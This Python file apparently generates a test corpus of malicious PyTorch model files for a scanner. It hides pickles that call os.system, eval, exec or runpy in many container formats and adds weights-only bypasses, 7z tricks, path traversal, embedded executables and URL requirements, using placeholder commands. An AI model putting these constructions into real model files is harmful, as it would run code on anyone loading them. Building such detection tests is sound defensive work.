"""PyTorch containers that run code when loaded, or hide that they do."""

import io
import json
import os
import struct
import warnings
import zipfile

import torch
import torch.package

import pickles as P
import zips
from archives import seven_zip
from benign_torch import legacy_tar, modules, saved_script, saved_torch, without_paths
from corpus import BAD, DAMAGED, Corpus, saved
from malicious_pickle import evil
from markers import COMMAND, PYTHON, PYTHON_FILE, SCRIPT, URL, code_object, elf
from pickles import Build, Call, Global, Raw, Reducer
from zips import Member

SYSTEM = "posix.system"
MAGIC = 0x1950A86A20F9469CFC6C
LEGACY = {"_use_new_zipfile_serialization": False}


def make(c: Corpus):
    torch.manual_seed(7)
    torch.set_num_threads(1)
    _zip(c)
    _legacy(c)
    _tar(c)
    _script(c)
    _package(c)
    _export(c)
    _mar(c)
    _directory_of_training(c)


def torch_zip(pickled, extra=(), root="archive", **options):
    """A torch zip around the pickle `pickled`, by hand."""
    members = [Member(f"{root}/data.pkl", pickled), Member(f"{root}/byteorder", b"little"), *extra, Member(f"{root}/version", b"3\n")]
    return zips.archive(members, **options)


def _zip(c):
    def add(name, data, evidence=SYSTEM, note="", verdict=("malicious",), formats=("pytorch-zip",)):
        c.malicious(f"torch-zip/{name}", data, formats, evidence, note, verdict)

    marker = Reducer(os.system, COMMAND)
    add("real-library.pt", saved_torch({"weights": torch.ones(2), "hook": marker}), note="torch.save of an object with __reduce__")
    add("real-library.bin", saved_torch([marker, torch.ones(2)]))
    add("no-extension", saved_torch(marker))
    for protocol in (2, 3, 4, 5):
        add(f"hand-made-p{protocol}.pt", torch_zip(evil(protocol)))
    state = modules()["mlp"].state_dict()
    state["extra"] = marker
    add("inside-state-dict.pth", saved_torch(state))
    add("module-with-setstate.pt", torch_zip(P.dump(Build(Build(Call(Global("torch.nn.modules.container", "Sequential"), ()), {"__setstate__": Global("os", "system")}), COMMAND), 2)), None)
    add("member-odd-extension.pt", zips.archive([("archive/data.pkl", P.dump({"a": 1}, 2)), ("archive/hidden.weird", evil(2)), ("archive/version", "3\n")]),
        note="CVE-2025-1889: a pickle with a foreign suffix", verdict=BAD)
    add("payload-in-storage.pt", torch_zip(P.call("torch", "load", "archive/data/0", protocol=2), [Member("archive/data/0", evil(2))]), "torch.load")
    add("payload-in-storage-unreferenced.pt", torch_zip(P.dump({}, 2), [Member("archive/data/0", evil(2))]), None, "storage bytes are a pickle; nothing loads them here", (*BAD, "clean"))
    add("payload-in-constants.pt", zips.archive([("archive/data.pkl", P.dump({}, 2)), ("archive/constants.pkl", evil(2)), ("archive/version", "3\n")]), formats=("torchscript",))
    add("payload-in-dot-data.pt", torch_zip(P.dump({}, 2), [Member("archive/.data/serialization_id", evil(2))]), None, verdict=BAD)
    add("root-is-nested.pt", torch_zip(evil(2), root="a/b/c"))
    add("root-missing.pt", zips.archive([("data.pkl", evil(2)), ("version", "3\n")]))
    add("two-data-pkl-roots.pt", zips.archive([("a/data.pkl", P.dump({}, 2)), ("b/data.pkl", evil(2)), ("a/version", "3\n")]))
    add("storage-shorter-than-numel.pt", torch_zip(_storage_pickle(numel=1 << 20), [Member("archive/data/0", bytes(8))]), None, "CVE-2026-24747: size mismatch", BAD + ("unknown",))
    add("storage-missing.pt", torch_zip(_storage_pickle()), None, "the storage is not in the archive", DAMAGED)
    add("storage-key-traversal.pt", torch_zip(_storage_pickle(key="../../../tmp/weighbridge-marker"), [Member("archive/data/0", bytes(8))]), "..", verdict=BAD)
    add("storage-location-is-a-path.pt", torch_zip(_storage_pickle(location="/dev/mem"), [Member("archive/data/0", bytes(8))]), None, verdict=(*BAD, "clean"))
    add("negative-stride.pt", torch_zip(_storage_pickle(stride=(-1,)), [Member("archive/data/0", bytes(8))]), None, verdict=DAMAGED)
    add("setitem-on-non-dict.pt", torch_zip(b"\x80\x02" + P.push(Call(Global("torch", "Size"), ([1],)), 2) + P.push(0, 2) + P.push("x", 2) + P.SETITEM + P.STOP), None,
        "CVE-2026-24747: SETITEM on something that is no dict", BAD + ("unknown",))
    add("weights-only-bypass-rebuild.pt", torch_zip(P.dump(Call(Global("torch._utils", "_rebuild_device_tensor_from_numpy"), (Call(Global("os", "system"), (COMMAND,)), None, None, False)), 2)), "os.system", "CVE-2025-32434 shape")
    add("prefix-data.pt", torch_zip(evil(2), prefix=b"PREFIX" * 10), note="data before the archive; offsets adjusted")
    add("suffix-data.pt", torch_zip(evil(2), suffix=b"trailing" * 10), note="data after the end record")
    add("embedded-elf.pt", torch_zip(P.dump({}, 2), [Member("archive/extra/helper", elf())]), None, "an executable in the archive", BAD)
    add("embedded-script.pt", torch_zip(P.dump({}, 2), [Member("archive/extra/install.sh", SCRIPT.encode())]), None, "a script in the archive", BAD)
    add("seven-zip-named.pt", seven_zip({"data.pkl": evil(2), "version": b"3\n"}), None, "nullifAI: 7z instead of zip", formats=())
    broken = b"\x80\x02" + P.push(Call(Global("posix", "system"), (COMMAND,)), 2) + b"X\xff\xff\xff\x00short"
    add("seven-zip-broken-stream.bin", seven_zip({"archive/data.pkl": broken, "archive/version": b"3\n"}), None, "nullifAI: 7z and a stream that breaks after the call", formats=())
    for text, hidden in (("read-from-builtins-eval", Call(Global("builtins", "eval"), (PYTHON,))), ("runpy", Call(Global("runpy", "_run_code"), (PYTHON,))),
                         ("webbrowser", Call(Global("webbrowser", "open"), (URL,)))):
        add(f"{text}.pt", torch_zip(P.dump(hidden, 2)), f"{hidden.function.module}.{hidden.function.name}")


def _storage_pickle(numel=2, key="0", location="cpu", stride=(1,)):
    """The pickle torch writes for one float tensor."""
    persistent = Raw(P.push(("storage", Global("torch", "FloatStorage"), key, location, numel), 2) + P.BINPERSID)
    tensor = Call(Global("torch._utils", "_rebuild_tensor_v2"), (persistent, 0, (2,), stride, False, Call(Global("collections", "OrderedDict"), ())))
    return P.dump({"w": tensor}, 2)


def _legacy(c):
    """magic, protocol, system info, object, storage keys: the payload in each in turn."""
    streams = [b"\x80\x02\x8a\x0a" + MAGIC.to_bytes(10, "little") + b".", P.dump(1001, 2),
               P.dump({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2), P.dump({"epoch": 1}, 2), P.dump([], 2)]
    names = ["magic", "protocol", "system-info", "object", "storage-keys"]
    for index, name in enumerate(names):
        parts = list(streams)
        if name == "magic":
            parts[0] = evil(2)
        else:
            parts[index] = evil(2)
        formats = ["pytorch-legacy"] if index else ["pickle"]
        c.malicious(f"torch-legacy/payload-in-{index + 1}-{name}.pt", b"".join(parts), formats, SYSTEM, "legacy container, one of five streams")
    wrapped = b"\x80\x02" + P.push(Call(Global("posix", "system"), (COMMAND,)), 2) + P.POP + streams[0][2:]
    c.malicious("torch-legacy/magic-after-popped-call.pt", wrapped + b"".join(streams[1:]), ["pickle"], SYSTEM, "the first stream runs code, then leaves the right number")
    reduced = P.dump(Call(Global("builtins", "eval"), (f"{PYTHON} and {MAGIC}",)), 2)
    c.malicious("torch-legacy/magic-by-reduce.pt", reduced + b"".join(streams[1:]), ["pickle"], "builtins.eval", "magic number made by __reduce__ (picklescan bypass)")
    by_int = P.dump(Call(Global("builtins", "int"), (str(MAGIC),)), 2)
    parts = [by_int, *streams[1:3], evil(2), streams[4]]
    c.malicious("torch-legacy/magic-by-int-call.pt", b"".join(parts), ["pickle"], SYSTEM, "magic by int('...'): no magic bytes in the file")
    c.malicious("torch-legacy/after-storages.pt", b"".join(streams) + struct.pack("<q", 0) + evil(2), ["pytorch-legacy"], SYSTEM, "a sixth stream", BAD)
    c.malicious("torch-legacy/real-library.pth", saved_torch({"w": torch.ones(2), "x": Reducer(os.system, COMMAND)}, **LEGACY), ["pytorch-legacy"], SYSTEM)
    c.malicious("torch-legacy/real-library-p4.bin", saved_torch(Reducer(os.system, COMMAND), pickle_protocol=4, **LEGACY), ["pytorch-legacy"], SYSTEM)


def _tar(c):
    c.malicious("torch-tar/payload-in-pickle.pt", legacy_tar(evil(2)), ["pytorch-tar", "pytorch-legacy"], SYSTEM, "torch 0.1.1 tar layout")
    for victim in ("sys_info", "tensors", "storages"):
        verdict = BAD if victim == "sys_info" else ("malicious",)  # present loaders skip sys_info
        c.malicious(f"torch-tar/payload-in-{victim}.pt", legacy_tar(P.dump({}, 2), **{victim: evil(2)}), ["pytorch-tar", "pytorch-legacy"], SYSTEM, "torch 0.1.1 tar layout", verdict)


class _Saver(torch.nn.Module):
    def forward(self, x):
        torch.save(x, "/tmp/weighbridge-marker")
        return x


class _Reader(torch.nn.Module):
    def forward(self, x):
        return x + torch.from_file("/tmp/weighbridge-marker", False, 1)


def _script(c):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, kind, evidence in (("aten-save", _Saver, "aten::save"), ("from-file", _Reader, "from_file")):
            try:
                module = torch.jit.script(kind())
            except Exception:
                continue  # made by hand below
            c.malicious(f"torchscript/{name}-real.pt", saved_script(lambda p, m=module: torch.jit.save(m, p)), ["torchscript"], evidence,
                        "file access from inside the model", BAD)
        honest = saved_script(lambda p: torch.jit.save(torch.jit.script(modules()["linear"]), p))
    source = "class Module(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self: __torch__.Module,\n    x: Tensor) -> Tensor:\n    {line}\n    return x\n"
    lines = {"save": ('_0 = ops.aten.save(x, "/tmp/weighbridge-marker")', "aten.save"), "from-file-hand": ('x = torch.from_file("/tmp/weighbridge-marker")', "from_file"),
             "custom-operator": ("x = ops.example_marker.run(x)", "example_marker")}
    code = next(n for n in zipfile.ZipFile(io.BytesIO(honest)).namelist() if n.startswith("model/code/__torch__") and n.endswith(".py"))
    for name, (line, evidence) in lines.items():
        c.malicious(f"torchscript/{name}.pt", zips.rewritten(honest, {code: source.format(line=line)}), ["torchscript"], evidence, "TorchScript source edited by hand", BAD)
    c.malicious("torchscript/pickle-in-data.pt", zips.rewritten(honest, {"model/data.pkl": evil(2)}), ["torchscript"], SYSTEM)
    c.malicious("torchscript/pickle-in-constants.pt", zips.rewritten(honest, {"model/constants.pkl": evil(2)}), ["torchscript"], SYSTEM)
    c.malicious("torchscript/python-source-smuggled.pt", zips.rewritten(honest, {"model/code/setup.py": PYTHON_FILE}), ["torchscript"], None, "ordinary Python beside the TorchScript", BAD)
    c.malicious("torchscript/mobile-bytecode-pickle.ptl", zips.rewritten(honest, {"model/bytecode.pkl": evil(2)}), ["torchscript"], SYSTEM)


def _package(c):
    def package(path, write):
        with torch.package.PackageExporter(path) as exporter:
            exporter.extern(["os", "subprocess", "builtins", "torch.**"])
            write(exporter)

    def with_source(exporter):
        exporter.save_source_string("model.code", PYTHON_FILE)
        exporter.save_pickle("model", "model.pkl", {"w": torch.ones(2)}, dependencies=False)

    c.malicious("torch-package/python-source-runs-os.pt", saved(lambda p: package(p, with_source), "p.pt"), ["torch-package"], None, "source in the package is executed on import")

    def with_reduce(exporter):
        exporter.save_pickle("model", "model.pkl", {"w": torch.ones(2)}, dependencies=False)

    data = saved(lambda p: package(p, with_reduce), "p.pt")
    c.malicious("torch-package/pickle-reduce.pt", zips.rewritten(data, {"p/model/model.pkl": evil(2)}), ["torch-package"], SYSTEM)
    c.malicious("torch-package/extern-os.pt", zips.rewritten(data, {"p/.data/extern_modules": "os\nsubprocess\n", "p/model/__init__.py": "import os\n"}), ["torch-package"], None, "extern os and a module that imports it", BAD)


def _export(c):
    exported = torch.export.export(modules()["mlp"].eval(), (torch.ones(1, 4),))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        data = without_paths(saved(lambda p: torch.export.save(exported, p), "model.pt2"))
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    root = names[0].split("/")[0]
    c.malicious("torch-export/aotinductor-so.pt2", zips.rewritten(data, {f"{root}/data/aotinductor/model/model.so": elf()}), ["torch-export"], ".so", "AOTInductor: a native library that the loader opens", BAD)
    samples = [n for n in names if n.endswith(".pt")]
    if samples:
        c.malicious("torch-export/pickle-in-sample-inputs.pt2", zips.rewritten(data, {samples[0]: torch_zip(evil(2))}), ["torch-export"], SYSTEM, "nested torch zip")
    c.malicious("torch-export/pickle-beside.pt2", zips.rewritten(data, {f"{root}/extra/hook.pkl": evil(2)}), ["torch-export"], SYSTEM)


def mar(handler, extra=()):
    """A TorchServe archive."""
    manifest = {"createdOn": "01/01/1980 00:00:00", "runtime": "python", "archiverVersion": "0.12.0",
                "model": {"modelName": "marker", "serializedFile": "model.pt", "handler": "handler.py", "modelVersion": "1.0"}}
    files = [("MAR-INF/MANIFEST.json", json.dumps(manifest)), ("handler.py", handler), ("model.pt", saved_torch(modules()["linear"].state_dict())), *extra]
    return zips.archive(files)


def _mar(c):
    hostile = "import os\nfrom ts.torch_handler.base_handler import BaseHandler\n\n\nclass Handler(BaseHandler):\n    def initialize(self, context):\n        os.system('" + COMMAND + "')\n"
    plain = "from ts.torch_handler.image_classifier import ImageClassifier\n\n\nclass Handler(ImageClassifier):\n    topk = 5\n"
    c.malicious("torchserve/evil-handler.mar", mar(hostile), ["torchserve-mar"], "os.system", "the handler runs when the model is served")
    c.malicious("torchserve/evil-weights.mar", mar(plain, [("extra.pkl", evil(2))]), ["torchserve-mar"], SYSTEM)
    c.malicious("torchserve/requirements-url.mar", mar(plain, [("requirements.txt", f"marker @ {URL}.tar.gz\n--extra-index-url {URL}\n")]), ["torchserve-mar"], "requirements", "a URL requirement is installed at load", BAD)
    c.malicious("torchserve/path-traversal.mar", mar(plain, [("../../../../tmp/weighbridge-marker", b"marker")]), ["torchserve-mar"], "..", "CVE-2023-48299", BAD)


def _directory_of_training(c):
    for name in ("training_args.bin", "optimizer.pt", "scheduler.pt", "rng_state.pth"):
        c.malicious(f"hf-training/{name}", torch_zip(evil(2), root=name.split(".")[0]), ["pytorch-zip"], SYSTEM, "Trainer side files are unpickled too")
    c.companion("malicious/hf-training/config.json", '{"model_type": "bert"}')
    c.malicious("torch-hub/hubconf.py", f"import os\n\ndependencies = ['torch']\nos.system('{COMMAND}')\n\n\ndef model(**kwargs):\n    return None\n", [], "os.system", "torch.hub runs hubconf.py", BAD)
    c.malicious("torch-zip-marshal/code-in-pickle.pt", torch_zip(P.dump(Call(Global("builtins", "exec"), (Call(Global("marshal", "loads"), (code_object(PYTHON),)),)), 3)), ["pytorch-zip"], "marshal.loads")
